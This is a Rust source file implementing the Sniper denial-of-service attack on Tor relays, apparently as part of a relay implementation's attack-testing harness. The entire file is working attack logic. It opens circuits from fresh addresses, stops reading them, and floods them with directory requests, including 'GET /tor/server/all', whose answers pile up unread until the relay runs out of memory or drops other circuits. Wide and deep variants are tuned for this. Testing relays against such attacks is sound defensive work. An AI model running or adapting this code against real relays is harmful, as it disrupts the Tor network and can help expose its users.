//! The Sniper attack (Jansen, Tschorsch, Johnson, Scheuermann: "The Sniper Attack", NDSS 2014): the attacker makes
//! the relay queue cells that it never reads, until the relay runs out of memory or destroys other circuits.

use super::Attack;
use super::attacker::{Attacker, LineId};
use super::circuits::Circuit;
use onion::cell::relay::RelayCommand;

/// A request that is answered in one cell.
const SHORT: &[u8] = b"GET /tor/nothing HTTP/1.0\r\n\r\n";

/// A request for the longest answer.
const LONG: &[u8] = b"GET /tor/server/all HTTP/1.0\r\n\r\n";

/// A line that is filled with circuits, and then no longer read.
struct SniperLine {
    line: LineId,
    circuits: Vec<Circuit>,
    is_full: bool,
    /// The number of requests sent on the line.
    requests: u32,
}

/// Fills one line after the other, each from a new address: circuits first, then requests whose answers stay unread.
struct Sniper {
    lines: Vec<SniperLine>,
    next_address: u32,
    circuits_per_line: u32,
    streams_per_circuit: u32,
    request: &'static [u8],
}

impl Sniper {
    /// The maximum number of lines that are being filled at a time.
    const FILLING: usize = 3;

    fn new(circuits_per_line: u32, streams_per_circuit: u32, request: &'static [u8]) -> Self {
        Self { lines: Vec::new(), next_address: 0, circuits_per_line, streams_per_circuit, request }
    }

    fn open_circuits(&mut self, attacker: &mut Attacker) {
        if self.lines.iter().filter(|entry| !entry.is_full).count() < Self::FILLING
            && let Some(line) = attacker.dial_narrow(self.next_address)
        {
            self.next_address += 1;
            self.lines.push(SniperLine { line, circuits: Vec::new(), is_full: false, requests: 0 });
        }
        for SniperLine { line, .. } in self.lines.iter().filter(|entry| !entry.is_full) {
            while attacker.can_send(*line) && attacker.begun(*line) < self.circuits_per_line {
                attacker.begin(*line, &[]);
            }
        }
    }

    fn send_requests(&mut self, attacker: &mut Attacker) {
        let wanted = self.circuits_per_line as usize;
        for entry in &mut self.lines {
            if !entry.is_full && entry.circuits.len() == wanted {
                entry.is_full = true;
                attacker.stop_reading(entry.line);
            }
            // One more stream on each circuit in turn.
            while entry.is_full
                && entry.requests < self.circuits_per_line * self.streams_per_circuit
                && attacker.can_send(entry.line)
            {
                let circuit = &mut entry.circuits[entry.requests as usize % wanted];
                let stream =
                    u16::try_from(entry.requests / self.circuits_per_line + 1).unwrap_or(1);
                circuit.send(attacker, RelayCommand::BEGIN_DIR, stream, &[]);
                circuit.send(attacker, RelayCommand::DATA, stream, self.request);
                entry.requests += 1;
            }
        }
    }
}

impl Attack for Sniper {
    fn act(&mut self, attacker: &mut Attacker) {
        self.open_circuits(attacker);
        self.send_requests(attacker);
    }

    fn handle_built(&mut self, _attacker: &mut Attacker, circuit: Circuit) {
        if let Some(entry) = self.lines.iter_mut().find(|entry| entry.line == circuit.line) {
            entry.circuits.push(circuit);
        }
    }

    fn handle_lost(&mut self, line: LineId) {
        self.lines.retain(|entry| entry.line != line);
    }
}

/// A growing number of circuits with few unread cells on each.
pub(super) fn wide() -> impl Attack {
    Sniper::new(2_000, 1, SHORT)
}

/// Few circuits with many unread cells on each.
pub(super) fn deep() -> impl Attack {
    Sniper::new(40, 20, LONG)
}
